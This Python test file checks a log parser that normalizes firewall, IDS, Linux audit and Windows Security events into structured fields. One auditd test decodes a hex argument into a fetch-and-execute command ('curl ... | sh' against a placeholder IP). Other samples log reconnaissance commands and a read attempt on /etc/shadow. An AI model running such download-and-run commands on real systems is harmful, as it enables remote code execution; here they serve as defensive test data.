"""Open formats: CEF, LEEF, FortiGate, PAN-OS, Cisco ASA, Linux auth, auditd, Windows Security, generic kv.

Lines are the vendors' documented examples (ArcSight CEF spec, IBM LEEF docs, Fortinet and
Palo Alto log references, Cisco ASA syslog guide, Linux tools' own messages, Windows event text)
or real lines from the corpus; every routing test parses without a format hint, as a source
with no configured format would.
"""

from __future__ import annotations

import json
from datetime import UTC, datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest

from collectors.parsers import ParseContext, parse
from soc.model import get_path

CTX = ParseContext("t", datetime(2024, 6, 1, tzinfo=UTC), ZoneInfo("Asia/Shanghai"))
CN_SAMPLES = Path(__file__).resolve().parents[3].parent / "shared" / "corpus" / "cn-vendors" / "samples.jsonl"
ELASTIC = Path(__file__).resolve().parents[3].parent / "shared" / "corpus" / "elastic-integrations" / "packages"


def corpus_file(path: Path) -> Path:
    """The corpus file, failing (not skipping) the test when it is missing."""
    assert path.is_file(), f"corpus file missing: {path}"
    return path


def p(line: str, hint: str = "") -> dict:
    return parse(line, hint, CTX).doc


def g(doc: dict, path: str):
    return doc.get(path) if path == "@timestamp" else get_path(doc, path)


# --------------------------------------------------------------------------- CEF


def test_cef_in_syslog_spec_example() -> None:
    doc = p("<134>Sep 19 08:26:10 host CEF:0|Security|threatmanager|1.0|100|worm successfully stopped|10|"
            "src=10.0.0.1 dst=2.1.2.2 spt=1232 dpt=80 proto=TCP suser=alice act=Blocked")  # fmt: skip
    assert g(doc, "event.module") == "cef"
    assert g(doc, "observer.vendor") == "security"
    assert g(doc, "observer.product") == "threatmanager"
    assert g(doc, "rule.id") == "100" and g(doc, "event.code") == "100"
    assert g(doc, "rule.name") == "worm successfully stopped"
    assert g(doc, "event.severity") == 10
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("10.0.0.1", 1232)
    assert (g(doc, "destination.ip"), g(doc, "destination.port")) == ("2.1.2.2", 80)
    assert g(doc, "network.transport") == "tcp"
    assert g(doc, "source.user.name") == "alice" and g(doc, "user.name") == "alice"
    assert g(doc, "event.action") == "blocked"
    assert g(doc, "host.name") == "host"


def test_cef_escapes_in_header_and_extension() -> None:
    # The CEF spec's own escaping examples: "\|" in the header, "\=" and "\\" in values.
    doc = p(r"CEF:0|security|threatmanager|1.0|100|detected a \| in message|10|"
            r"src=10.0.0.1 act=blocked a \= dst=1.1.1.1 filePath=C:\\Windows\\x.exe msg=line1\nline2")  # fmt: skip
    assert g(doc, "rule.name") == "detected a | in message"
    assert g(doc, "event.action") == "blocked a ="
    assert g(doc, "destination.ip") == "1.1.1.1"
    assert g(doc, "file.path") == "C:\\Windows\\x.exe"
    assert g(doc, "message") == "line1\nline2"


def test_cef_custom_labels_and_epoch_rt() -> None:
    doc = p("CEF:0|FORCEPOINT|Firewall|6.6.1|70018|Connection_Allowed|0|src=10.37.205.252 dst=10.1.1.40 "
            "proto=1 act=Allow rt=1579250529000 cs1Label=RuleID cs1=2097157.1 dvc=10.1.1.40 dvchost=fw1")  # fmt: skip
    assert g(doc, "@timestamp") == "2020-01-17T08:42:09.000Z"
    assert g(doc, "network.transport") == "icmp"
    assert g(doc, "observer.ip") == "10.1.1.40" and g(doc, "observer.hostname") == "fw1"
    assert g(doc, "cef.extensions.cs1") == "2097157.1"
    assert g(doc, "rule.id") == "70018"  # the signature id of the header wins over the label


def test_cef_text_rt_is_local_time() -> None:
    doc = p("CEF:0|V|P|1|1|n|3|rt=Jan 17 2020 08:52:10 src=10.0.0.1")
    assert g(doc, "@timestamp") == "2020-01-17T00:52:10.000Z"  # Asia/Shanghai, UTC+8


def test_cef_bad_rt_is_tagged_not_raised() -> None:
    doc = p("CEF:0|V|P|1|1|n|3|rt=not-a-date src=10.0.0.1")
    assert "_timestamp_invalid" in doc["tags"]
    assert g(doc, "source.ip") == "10.0.0.1"


# --------------------------------------------------------------------------- LEEF


def test_leef1_tab_delimited() -> None:
    doc = p("LEEF:1.0|Microsoft|MSExchange|4.0 SP1|15345|src=192.0.2.1\tdst=172.50.123.1\tsev=5\t"
            "cat=anomaly\tsrcPort=81\tdstPort=21\tusrName=joe.black")  # fmt: skip
    assert g(doc, "observer.vendor") == "microsoft" and g(doc, "observer.product") == "MSExchange"
    assert g(doc, "event.code") == "15345"
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("192.0.2.1", 81)
    assert (g(doc, "destination.ip"), g(doc, "destination.port")) == ("172.50.123.1", 21)
    assert g(doc, "user.name") == "joe.black"
    assert g(doc, "event.severity") == 5


@pytest.mark.parametrize("delim,sep", [("^", "^"), ("x09", "\t"), ("0x7C", "|")])
def test_leef2_declared_delimiter(delim: str, sep: str) -> None:
    attrs = sep.join(["src=10.0.1.8", "dst=10.0.0.5", "usrName=li.si", "proto=6",
                      "devTime=2024-05-01 10:00:00", "devTimeFormat=yyyy-MM-dd HH:mm:ss"])  # fmt: skip
    doc = p(f"<13>May  1 10:00:00 qradar LEEF:2.0|Lancope|StealthWatch|1.0|41|{delim}|{attrs}")
    assert g(doc, "source.ip") == "10.0.1.8" and g(doc, "destination.ip") == "10.0.0.5"
    assert g(doc, "user.name") == "li.si"
    assert g(doc, "network.transport") == "tcp"
    assert g(doc, "@timestamp") == "2024-05-01T02:00:00.000Z"


# --------------------------------------------------------------------------- FortiGate

FORTI_TRAFFIC = (
    'date=2019-05-10 time=11:37:47 logid="0000000013" type="traffic" subtype="forward" level="notice" '
    'vd="vdom1" eventtime=1557513467369913239 srcip=10.1.100.11 srcport=58012 srcintf="port12" '
    'srcintfrole="undefined" dstip=23.59.154.35 dstport=80 dstintf="port11" dstintfrole="undefined" '
    'sessionid=105048 proto=6 action="deny" policyid=1 policytype="policy" service="HTTP" '
    'dstcountry="Canada" srccountry="Reserved" trandisp="snat" transip=172.16.200.2 transport=58012 '
    'duration=116 sentbyte=1188 rcvdbyte=1224 sentpkt=17 rcvdpkt=16'
)


def test_fortigate_traffic_deny_in_syslog() -> None:
    doc = p(f"<189>{FORTI_TRAFFIC}")
    assert g(doc, "observer.vendor") == "fortinet" and g(doc, "observer.product") == "fortigate"
    assert g(doc, "@timestamp") == "2019-05-10T03:37:47.000Z"  # no tz= field: the source's zone
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("10.1.100.11", 58012)
    assert (g(doc, "destination.ip"), g(doc, "destination.port")) == ("23.59.154.35", 80)
    assert (g(doc, "source.nat.ip"), g(doc, "source.nat.port")) == ("172.16.200.2", 58012)
    assert g(doc, "network.transport") == "tcp" and g(doc, "network.protocol") == "http"
    assert g(doc, "event.action") == "deny"
    assert g(doc, "event.category") == ["network"] and "denied" in g(doc, "event.type")
    assert g(doc, "rule.id") == "1"
    assert g(doc, "event.code") == "0000000013"
    assert (g(doc, "source.bytes"), g(doc, "destination.bytes")) == (1188, 1224)


def test_fortigate_admin_login_failed_after_relay_prefix() -> None:
    line = ('2026-04-03T00:31:09.976660+00:00 192.168.2.1 date=2026-04-02 time=17:31:09 devname="FGVM" '
            'devid="FGVM01" tz="-0700" logid="0100032002" type="event" subtype="system" level="alert" '
            'vd="root" logdesc="Admin login failed" user="admin" ui="https(172.16.1.2)" method="https" '
            'srcip=172.16.1.2 dstip=172.16.1.1 action="login" status="failed" reason="passwd_invalid"')  # fmt: skip
    doc = p(line)
    assert g(doc, "@timestamp") == "2026-04-03T00:31:09.000Z"  # tz=-0700 honoured
    assert g(doc, "event.category") == ["authentication"]
    assert g(doc, "event.outcome") == "failure"
    assert g(doc, "user.name") == "admin"
    assert g(doc, "http.request.method") is None  # method="https" is the admin UI, not HTTP
    assert g(doc, "observer.serial_number") == "FGVM01"


def test_fortigate_ips_names_the_signature() -> None:
    line = ('date=2026-03-31 time=07:48:26 devname="D" devid="X" tz="-0500" logid="0419016384" type="utm" '
            'subtype="ips" eventtype="signature" level="alert" severity="high" srcip=10.11.12.1 dstip=10.7.1.5 '
            'action="detected" proto=6 policyid=11 attack="HTTP.X-Forwarded-For.Header.XSS" srcport=50123 '
            'dstport=443 hostname="10.5.0.1" url="/?sample=1" httpmethod="GET" attackid=55823')  # fmt: skip
    doc = p(line)
    assert g(doc, "event.kind") == "alert"
    assert "intrusion_detection" in g(doc, "event.category")
    assert g(doc, "rule.name") == "HTTP.X-Forwarded-For.Header.XSS" and g(doc, "rule.id") == "55823"
    assert g(doc, "url.path") == "/" and g(doc, "url.query") == "sample=1"
    assert g(doc, "http.request.method") == "GET"


# --------------------------------------------------------------------------- PAN-OS

PAN_TRAFFIC = (
    "1,2012/04/10 04:39:58,01606001116,TRAFFIC,end,1,2012/04/10 04:39:58,192.168.0.2,204.232.231.46,"
    "192.168.1.1,204.232.231.46,rule1,corp\\zhang,,web-browsing,vsys1,trust,untrust,ethernet1/2,ethernet1/1,"
    "forwardAll,2012/04/10 04:39:58,33760927,1,52900,80,41000,80,0x400019,tcp,allow,3580,1278,2302,20,"
    "2012/04/10 04:39:28,30,computer-and-internet-info,0,22,0x0,192.168.0.0-192.168.255.255,United States,0,"
    "11,9,tcp-fin"
)
PAN_THREAT = (
    "1,2019/06/11 10:00:00,012345678901,THREAT,vulnerability,2049,2019/06/11 10:00:00,10.0.0.5,192.0.2.10,"
    "0.0.0.0,0.0.0.0,allow-web,,,web-browsing,vsys1,trust,untrust,ethernet1/2,ethernet1/1,fwd,"
    '2019/06/11 10:00:00,12345,1,51000,80,0,0,0x2000,tcp,reset-both,"cmd.exe",'
    "Microsoft Windows Command Shell Access(30003),any,critical,client-to-server,6000001,0x0,"
    "10.0.0.0-10.255.255.255,US,0,,0"
)


def test_panos_traffic_positions() -> None:
    doc = p(f"<14>Apr 10 04:39:58 PA-220 {PAN_TRAFFIC}")
    assert g(doc, "observer.vendor") == "paloaltonetworks" and g(doc, "observer.serial_number") == "01606001116"
    assert g(doc, "@timestamp") == "2012-04-09T20:39:58.000Z"
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("192.168.0.2", 52900)
    assert (g(doc, "destination.ip"), g(doc, "destination.port")) == ("204.232.231.46", 80)
    assert (g(doc, "source.nat.ip"), g(doc, "source.nat.port")) == ("192.168.1.1", 41000)
    assert g(doc, "network.transport") == "tcp" and g(doc, "network.application") == "web-browsing"
    assert g(doc, "event.action") == "allow" and g(doc, "rule.name") == "rule1"
    assert g(doc, "user.name") == "corp\\zhang"
    assert (g(doc, "source.bytes"), g(doc, "destination.bytes")) == (1278, 2302)
    assert g(doc, "event.reason") == "tcp-fin"
    assert set(g(doc, "event.type")) >= {"connection", "end", "allowed"}


def test_panos_threat_vulnerability() -> None:
    doc = p(PAN_THREAT)
    assert g(doc, "event.kind") == "alert"
    assert g(doc, "rule.name") == "Microsoft Windows Command Shell Access" and g(doc, "rule.id") == "30003"
    assert g(doc, "rule.ruleset") == "allow-web"
    assert g(doc, "event.action") == "reset-both" and "denied" in g(doc, "event.type")
    assert g(doc, "event.severity") == 5 and g(doc, "file.name") == "cmd.exe"
    assert g(doc, "source.nat.ip") is None  # 0.0.0.0 means no NAT


# --------------------------------------------------------------------------- Cisco ASA

ASA = "<166>Jan 05 2024 10:00:00 asa01 : "


@pytest.mark.parametrize(
    "msg,expected",
    [
        ('%ASA-4-106023: Deny tcp src outside:203.0.113.5/51234 dst inside:10.1.1.10/22 by access-group '
         '"outside_access_in" [0x0, 0x0]',
         {"source.ip": "203.0.113.5", "source.port": 51234, "destination.ip": "10.1.1.10", "destination.port": 22,
          "network.transport": "tcp", "rule.name": "outside_access_in", "event.type": ["connection", "denied"]}),
        ("%ASA-6-106100: access-list acl_in permitted tcp inside/10.0.0.16(2011) -> outside/192.0.0.89(2000) "
         "hit-cnt 1 first hit [0x4c8a2b7b, 0x0]",
         {"source.ip": "10.0.0.16", "source.port": 2011, "destination.ip": "192.0.0.89", "destination.port": 2000,
          "rule.name": "acl_in", "event.action": "permitted"}),
        ("%ASA-6-302013: Built outbound TCP connection 1234 for outside:198.51.100.7/443 (198.51.100.7/443) "
         "to inside:10.0.0.5/51000 (203.0.113.9/51000)",
         {"source.ip": "10.0.0.5", "source.port": 51000, "destination.ip": "198.51.100.7",
          "destination.port": 443, "source.nat.ip": "203.0.113.9", "network.direction": "outbound"}),
        ("%ASA-6-302015: Built inbound UDP connection 5 for outside:203.0.113.5/53 (203.0.113.5/53) "
         "to inside:10.0.0.2/1025 (10.0.0.2/1025)",
         {"source.ip": "203.0.113.5", "destination.ip": "10.0.0.2", "network.transport": "udp"}),
        ("%ASA-6-302014: Teardown TCP connection 1234 for outside:198.51.100.7/443 to inside:10.0.0.5/51000 "
         "duration 0:00:30 bytes 6543 TCP FINs",
         {"network.bytes": 6543, "event.duration": 30_000_000_000, "event.reason": "TCP FINs"}),
        ("%ASA-6-305011: Built dynamic TCP translation from inside:10.0.0.5/51000 to outside:203.0.113.9/61000",
         {"source.ip": "10.0.0.5", "source.nat.ip": "203.0.113.9", "source.nat.port": 61000}),
        ("%ASA-6-113004: AAA user authentication Successful : server = 10.1.1.5 : user = alice",
         {"user.name": "alice", "event.outcome": "success", "event.category": ["authentication"]}),
        ("%ASA-6-113005: AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.5 : "
         "user = bob : user IP = 198.51.100.20",
         {"user.name": "bob", "event.outcome": "failure", "source.ip": "198.51.100.20"}),
        ("%ASA-6-113015: AAA user authentication Rejected : reason = Invalid password : local database : "
         "user = admin : user IP = 198.51.100.21",
         {"user.name": "admin", "event.outcome": "failure", "event.reason": "Invalid password"}),
        ('%ASA-6-605004: Login denied from 198.51.100.22/51111 to outside:203.0.113.1/ssh for user "root"',
         {"user.name": "root", "event.outcome": "failure", "source.ip": "198.51.100.22",
          "network.protocol": "ssh"}),
        ('%ASA-6-605005: Login permitted from 10.0.0.8/52222 to inside:10.0.0.1/https for user "admin"',
         {"user.name": "admin", "event.outcome": "success", "destination.ip": "10.0.0.1"}),
        ("%ASA-4-733100: [ Scanning] drop rate-1 exceeded. Current burst rate is 10 per second, max configured "
         "rate is 10; Current average rate is 5 per second, max configured rate is 5; Cumulative total count "
         "is 3000",
         {"event.kind": "alert", "rule.name": "Scanning"}),
    ],
)  # fmt: skip
def test_cisco_asa_messages(msg: str, expected: dict) -> None:
    doc = p(ASA + msg)
    assert g(doc, "observer.vendor") == "cisco" and g(doc, "observer.product") == "asa"
    assert g(doc, "event.code") == msg[7:13]
    for field, value in expected.items():
        assert g(doc, field) == value, field
    assert "_parse_partial" not in doc.get("tags", [])


# --------------------------------------------------------------------------- Linux auth


def test_sudo_command() -> None:
    doc = p("<85>Oct 23 16:54:59 web01 sudo:  patrol : TTY=unknown ; PWD=/home/patrol ; USER=root ; "
            "COMMAND=/bin/sh -c echo OK ; /usr/bin/id")  # fmt: skip
    assert g(doc, "user.name") == "patrol" and g(doc, "user.effective.name") == "root"
    assert g(doc, "process.command_line") == "/bin/sh -c echo OK ; /usr/bin/id"
    assert g(doc, "event.category") == ["process"] and g(doc, "event.outcome") == "success"


def test_sudo_not_in_sudoers_is_a_failure() -> None:
    doc = p("<85>Feb 24 00:13:02 precise32 sudo:      tsg : user NOT in sudoers ; TTY=pts/1 ; "
            "PWD=/home/vagrant ; USER=root ; COMMAND=/bin/ls")  # fmt: skip
    assert g(doc, "user.name") == "tsg" and g(doc, "event.outcome") == "failure"


@pytest.mark.parametrize(
    "msg,user,target,outcome",
    [
        ("Successful su for root by alice", "alice", "root", "success"),
        ("FAILED su for root by alice", "alice", "root", "failure"),
        ("(to root) alice on pts/0", "alice", "root", "success"),
        ("FAILED SU (to root) alice on pts/0", "alice", "root", "failure"),
    ],
)
def test_su(msg: str, user: str, target: str, outcome: str) -> None:
    doc = p(f"<86>May  1 10:00:00 host su[123]: {msg}")
    assert (g(doc, "user.name"), g(doc, "user.effective.name")) == (user, target)
    assert g(doc, "event.category") == ["authentication"] and g(doc, "event.outcome") == outcome


@pytest.mark.parametrize(
    "line,user",
    [
        # pam_faillock's syslog text, from an app no other parser owns (found by sniffing).
        ("<86>May  1 10:00:00 host login[99]: pam_faillock(login:auth): Consecutive login failures for user "
         "wangwu account temporarily locked", "wangwu"),
        ("<86>May  1 10:00:00 host vsftpd[7]: pam_tally2(vsftpd:auth): user zhaoliu (1001) tally 4, deny 3",
         "zhaoliu"),
        ("<86>May  1 10:00:00 host sudo: pam_faillock(sudo:auth): Consecutive login failures for user ops "
         "account temporarily locked", "ops"),
    ],
)  # fmt: skip
def test_lockout_is_account_locked(line: str, user: str) -> None:
    doc = p(line)
    assert g(doc, "event.action") == "account_locked"
    assert g(doc, "event.category") == ["authentication"] and g(doc, "event.outcome") == "failure"
    assert g(doc, "user.name") == user


def test_pam_authentication_failure_with_rhost() -> None:
    doc = p("<85>Jun  2 19:08:43 host sudo[654]: pam_unix(sudo:auth): authentication failure; logname=bob "
            "uid=1117 euid=0 tty=/dev/pts/1 ruser=alice rhost=10.0.0.9 user=root")  # fmt: skip
    assert g(doc, "event.action") == "authentication_failure" and g(doc, "event.outcome") == "failure"
    assert g(doc, "user.name") == "root" and g(doc, "source.ip") == "10.0.0.9"
    assert g(doc, "source.user.name") == "alice"


def test_useradd_and_groupadd() -> None:
    doc = p("<86>Feb 22 11:47:05 localhost useradd[6995]: new user: name=apache, UID=48, GID=48, "
            "home=/usr/share/httpd, shell=/sbin/nologin")  # fmt: skip
    assert (g(doc, "user.name"), g(doc, "user.id"), g(doc, "group.id")) == ("apache", "48", "48")
    assert g(doc, "event.category") == ["iam"] and g(doc, "event.type") == ["user", "creation"]
    doc = p("<86>Feb 22 11:47:05 localhost groupadd[6991]: new group: name=apache, GID=48")
    assert (g(doc, "group.name"), g(doc, "group.id")) == ("apache", "48")


# --------------------------------------------------------------------------- auditd


AUDIT_LOGIN = ("type=USER_LOGIN msg=audit(1485894621.323:4051): pid=1455 uid=0 auid=4294967295 ses=4294967295 "
               "msg='op=login acct=\"root\" exe=\"/usr/sbin/sshd\" hostname=? addr=1.2.3.4 terminal=ssh res=failed'")  # fmt: skip


@pytest.mark.parametrize("prefix", ["", "<14>Feb  1 04:30:21 host audispd: node=host ", "<14>Feb  1 04:30:21 host "])
def test_auditd_user_login_bare_and_in_syslog(prefix: str) -> None:
    doc = p(prefix + AUDIT_LOGIN)
    assert g(doc, "@timestamp") == "2017-01-31T20:30:21.323Z"
    assert g(doc, "event.action") == "logged-in"
    assert g(doc, "event.category") == ["authentication"] and g(doc, "event.outcome") == "failure"
    assert g(doc, "user.name") == "root" and g(doc, "source.ip") == "1.2.3.4"
    assert g(doc, "process.executable") == "/usr/sbin/sshd" and g(doc, "process.pid") == 1455
    assert g(doc, "auditd.log.sequence") == 4051


def test_auditd_hex_values_decoded() -> None:
    doc = p("type=USER_CMD msg=audit(1489519256.192:19600329): user pid=4151 uid=497 auid=700 ses=11988 "
            "msg='cwd=\"/\" cmd=2F62696E2F6C73202D6C terminal=? res=success'")  # fmt: skip
    assert g(doc, "process.command_line") == "/bin/ls -l"
    assert g(doc, "event.action") == "ran-command"


def test_auditd_execve_args_quoted_and_hex() -> None:
    # a2 is hex because the argument holds spaces and a pipe: "curl -s http://203.0.113.9/x | sh"
    doc = p('<14>Feb  1 04:30:21 web01 audispd: node=web01 type=EXECVE msg=audit(1485894621.323:4061): argc=3 '
            'a0="bash" a1="-c" a2=6375726C202D7320687474703A2F2F3230332E302E3131332E392F78207C207368')  # fmt: skip
    assert g(doc, "auditd.log.record_type") == "EXECVE" and g(doc, "event.action") == "execve"
    assert g(doc, "process.args") == ["bash", "-c", "curl -s http://203.0.113.9/x | sh"]
    assert g(doc, "process.args_count") == 3
    assert g(doc, "process.command_line") == "bash -c curl -s http://203.0.113.9/x | sh"
    assert g(doc, "auditd.log.a2") == "curl -s http://203.0.113.9/x | sh"  # decoded for the a<N> rules too


def test_auditd_execve_long_argument_in_pieces() -> None:
    # auditd splits a long argument into a1[0], a1[1]...; a hex piece may end inside a UTF-8 character.
    doc = p('type=EXECVE msg=audit(1485894621.323:4062): argc=2 a0="echo" a1_len=12 a1[0]=E4BDA0E5 a1[1]=A5BD2E7368')
    assert g(doc, "process.args") == ["echo", "你好.sh"]
    assert g(doc, "process.command_line") == "echo 你好.sh" and g(doc, "process.args_count") == 2


def test_auditd_execve_from_elastic_corpus() -> None:
    base = ELASTIC / "auditd" / "data_stream" / "log" / "_dev" / "test" / "pipeline"
    lines = corpus_file(base / "test-auditd-raw.log").read_text(encoding="utf-8").splitlines()
    line = next(x for x in lines if x.startswith("type=EXECVE"))
    expected = json.loads(corpus_file(base / "test-auditd-raw.log-expected.json").read_text())["expected"]
    exp = next(e for e in expected if get_path(e, "event.original") == line)
    doc = p(line)
    assert g(doc, "process.args") == get_path(exp, "process.args") == ["top"]
    assert g(doc, "process.args_count") == get_path(exp, "process.args_count") == 1
    assert g(doc, "process.command_line") == "top"


def test_auditd_syscall_registers_are_not_args() -> None:
    doc = p('type=SYSCALL msg=audit(1485893834.891:18877199): arch=c000003e syscall=59 success=yes exit=0 '
            'a0=7f095d0a4b88 ppid=1234 pid=5678 auid=1000 uid=0 gid=0 comm="ls" exe="/bin/ls"')  # fmt: skip
    assert g(doc, "process.args") is None and g(doc, "auditd.log.a0") == "7f095d0a4b88"


def test_kernel_audit_line_is_found_by_sniffing() -> None:
    doc = p('<4>Feb  1 04:30:21 host kernel: audit: type=1400 audit(1485894621.323:77): apparmor="DENIED" '
            'operation="open" profile="/usr/sbin/cupsd" name="/etc/shadow" pid=981 comm="cupsd"')  # fmt: skip
    assert g(doc, "event.module") == "auditd"
    assert g(doc, "auditd.log.record_type") == "1400"
    assert g(doc, "process.pid") == 981


# --------------------------------------------------------------------------- Windows Security


def _winlog(event_id: int, data: dict, keywords: str = "Audit Success") -> str:
    return json.dumps({
        "@timestamp": "2024-05-01T02:03:05.000Z",
        "winlog": {"channel": "Security", "event_id": event_id, "computer_name": "DC01",
                   "provider_name": "Microsoft-Windows-Security-Auditing",
                   "time_created": "2024-05-01T02:03:04.123Z", "keywords": [keywords], "event_data": data},
    })  # fmt: skip


@pytest.mark.parametrize(
    "event_id,data,keywords,expected",
    [
        (4624, {"SubjectUserName": "DC01$", "TargetUserName": "alice", "TargetDomainName": "CORP", "LogonType": "10",
                "IpAddress": "10.1.1.20", "IpPort": "52311"}, "Audit Success",
         {"event.action": "logged-in", "event.outcome": "success", "user.name": "alice", "source.ip": "10.1.1.20",
          "source.port": 52311, "event.category": ["authentication"], "winlog.logon.type": "10"}),
        (4625, {"SubjectUserName": "-", "TargetUserName": "administrator", "IpAddress": "198.51.100.7",
                "IpPort": "0", "WorkstationName": "KALI"}, "Audit Failure",
         {"event.action": "logon-failed", "event.outcome": "failure", "user.name": "administrator",
          "source.ip": "198.51.100.7", "source.port": None}),
        (4634, {"TargetUserName": "alice"}, "Audit Success", {"event.action": "logged-out", "user.name": "alice"}),
        (4648, {"SubjectUserName": "alice", "TargetUserName": "bob", "IpAddress": "-"}, "Audit Success",
         {"event.action": "logged-in-explicit", "user.name": "alice", "user.target.name": "bob"}),
        (4672, {"SubjectUserName": "admin"}, "Audit Success", {"event.action": "logged-in-special", "user.name": "admin"}),
        (4688, {"SubjectUserName": "alice", "NewProcessName": "C:\\Windows\\System32\\cmd.exe",
                "CommandLine": "cmd.exe /c whoami", "NewProcessId": "0x1a4"}, "Audit Success",
         {"event.action": "created-process", "process.name": "cmd.exe", "process.command_line": "cmd.exe /c whoami",
          "process.pid": 420, "event.category": ["process"]}),
        (4720, {"SubjectUserName": "admin", "TargetUserName": "newuser"}, "Audit Success",
         {"event.action": "added-user-account", "user.name": "admin", "user.target.name": "newuser"}),
        (4726, {"SubjectUserName": "admin", "TargetUserName": "olduser"}, "Audit Success",
         {"event.action": "deleted-user-account", "user.target.name": "olduser"}),
        (4740, {"SubjectUserName": "DC01$", "TargetUserName": "zhangsan"}, "Audit Success",
         {"event.action": "locked-out-user-account", "user.target.name": "zhangsan"}),
        (1102, {"SubjectUserName": "admin"}, "Audit Success", {"event.action": "audit-log-cleared", "user.name": "admin"}),
        (4728, {"SubjectUserName": "admin", "MemberName": "CN=svc_bak,CN=Users,DC=gov,DC=local",
                "MemberSid": "S-1-5-21-1-2-3-1109", "TargetUserName": "Domain Admins", "TargetDomainName": "GOV",
                "TargetSid": "S-1-5-21-1-2-3-512"}, "Audit Success",
         {"event.action": "added-member-to-group", "user.name": "admin", "user.target.name": "svc_bak",
          "user.target.id": "S-1-5-21-1-2-3-1109", "group.name": "Domain Admins", "group.domain": "GOV",
          "group.id": "S-1-5-21-1-2-3-512"}),
        (4732, {"SubjectUserName": "admin", "MemberName": "-", "MemberSid": "S-1-5-21-1-2-3-1109",
                "TargetUserName": "Administrators", "TargetDomainName": "Builtin", "TargetSid": "S-1-5-32-544"},
         "Audit Success",
         {"event.action": "added-member-to-group", "user.target.name": None, "user.target.id": "S-1-5-21-1-2-3-1109",
          "group.name": "Administrators", "group.domain": "Builtin"}),
        (4756, {"SubjectUserName": "admin", "MemberName": "CN=Doe\\, John,OU=Staff,DC=gov,DC=local",
                "TargetUserName": "Enterprise Admins", "TargetDomainName": "GOV"}, "Audit Success",
         {"event.action": "added-member-to-group", "user.target.name": "Doe, John", "group.name": "Enterprise Admins"}),
    ],
)  # fmt: skip
def test_winlogbeat_json(event_id: int, data: dict, keywords: str, expected: dict) -> None:
    doc = p(_winlog(event_id, data, keywords))
    assert g(doc, "event.code") == str(event_id)
    assert g(doc, "@timestamp") == "2024-05-01T02:03:04.123Z"  # time_created, not the shipping time
    assert g(doc, "host.name") == "DC01"
    for field, value in expected.items():
        assert g(doc, field) == value, field


ZH_4625 = ("帐户登录失败。 使用者: 安全 ID: S-1-0-0 帐户名: - 帐户域: - 登录 ID: 0x0 登录类型: 3 "
           "登录失败的帐户: 安全 ID: S-1-0-0 帐户名: administrator 帐户域: WIN-ABC 失败信息: "
           "失败原因: 未知用户名或密码错误。 状态: 0xC000006D 子状态: 0xC000006A 进程信息: 调用方进程 ID: 0x0 "
           "调用方进程名: - 网络信息: 工作站名: KALI 源网络地址: 192.168.1.50 源端口: 0 "
           "详细身份验证信息: 登录进程: NtLmSsp 身份验证数据包: NTLM")  # fmt: skip
ZH_4624 = ("已成功登录帐户。 使用者: 安全 ID: S-1-5-18 帐户名: WIN-ABC$ 帐户域: WORKGROUP 登录 ID: 0x3E7 "
           "登录类型: 10 新登录: 安全 ID: S-1-5-21-1-2-3-500 帐户名: Administrator 帐户域: WIN-ABC "
           "登录 ID: 0x1234 进程信息: 进程 ID: 0x1a4 进程名: C:\\Windows\\System32\\winlogon.exe "
           "网络信息: 工作站名: WIN-ABC 源网络地址: 10.10.1.20 源端口: 52311")  # fmt: skip


def test_chinese_4625_via_eventlog_to_syslog() -> None:
    doc = p(f"<29>Jul 29 15:03:22 DELL Security-Auditing: 4625: AUDIT_FAILURE {ZH_4625}")
    assert g(doc, "event.code") == "4625" and g(doc, "event.action") == "logon-failed"
    assert g(doc, "event.outcome") == "failure" and g(doc, "event.category") == ["authentication"]
    assert g(doc, "user.name") == "administrator"  # the failed account, not the empty subject
    assert g(doc, "source.ip") == "192.168.1.50" and g(doc, "source.port") is None
    assert g(doc, "event.reason") == "未知用户名或密码错误。"
    assert g(doc, "winlog.logon.type") == "3"


def test_chinese_4624_without_event_id_is_recognized_by_its_title() -> None:
    doc = p(ZH_4624, "windows_security")
    assert g(doc, "event.code") == "4624" and g(doc, "event.outcome") == "success"
    assert g(doc, "user.name") == "Administrator"
    assert (g(doc, "source.ip"), g(doc, "source.port")) == ("10.10.1.20", 52311)


def test_chinese_4740_snare() -> None:
    line = ("<14>May  1 10:00:00 DC01 MSWinEventLog\t1\tSecurity\t123\tWed May 01 10:00:00 2024\t4740\t"
            "Microsoft-Windows-Security-Auditing\tN/A\tN/A\tSuccess Audit\tDC01\t用户帐户管理\t\t"
            "用户帐户被锁定。 使用者: 安全 ID: S-1-5-18 帐户名: DC01$ 帐户域: CORP 登录 ID: 0x3E7 "
            "被锁定的帐户: 安全 ID: S-1-5-21-1-2-3-1105 帐户名: zhangsan 其他信息: 调用方计算机名: PC-ZS\t1")  # fmt: skip
    doc = p(line)
    assert g(doc, "event.code") == "4740" and g(doc, "event.action") == "locked-out-user-account"
    assert g(doc, "user.target.name") == "zhangsan"


def test_group_member_added_from_elastic_corpus() -> None:
    # 4746 (distribution group) has the shape of 4728/4732/4756: Elastic's document is the reference.
    base = ELASTIC / "windows" / "data_stream" / "forwarded" / "_dev" / "test" / "pipeline"
    event = json.loads(corpus_file(base / "test-security-4746.json").read_text(encoding="utf-8"))["events"][0]
    exp = json.loads(corpus_file(base / "test-security-4746.json-expected.json").read_text())["expected"][0]
    doc = p(json.dumps(event))
    for field in ("group.name", "group.domain", "group.id", "user.target.name", "user.name"):
        assert g(doc, field) == get_path(exp, field), field
    assert g(doc, "user.target.name") == "Administrator" and g(doc, "group.name") == "testdistlocal1"


ZH_4732 = ("已将成员添加到启用安全性的本地组中。 使用者: 安全 ID: S-1-5-21-1-2-3-500 帐户名: admin "
           "帐户域: GOV-APP01 登录 ID: 0x3E7 成员: 安全 ID: S-1-5-21-1-2-3-1109 帐户名: CN=svc_bak,CN=Users,DC=gov,DC=local "
           "组: 安全 ID: S-1-5-21-1-2-3-512 组名: Domain Admins 组域: GOV 其他信息: 特权: -")  # fmt: skip
EN_4728 = ("A member was added to a security-enabled global group. Subject: Security ID: S-1-5-21-1-2-3-500 "
           "Account Name: Administrator Account Domain: GOV Logon ID: 0x3E7 Member: Security ID: "
           "S-1-5-21-1-2-3-1109 Account Name: CN=svc_bak,CN=Users,DC=gov,DC=local Group: Security ID: "
           "S-1-5-21-1-2-3-512 Group Name: Domain Admins Group Domain: GOV "
           "Additional Information: Privileges: -")  # fmt: skip


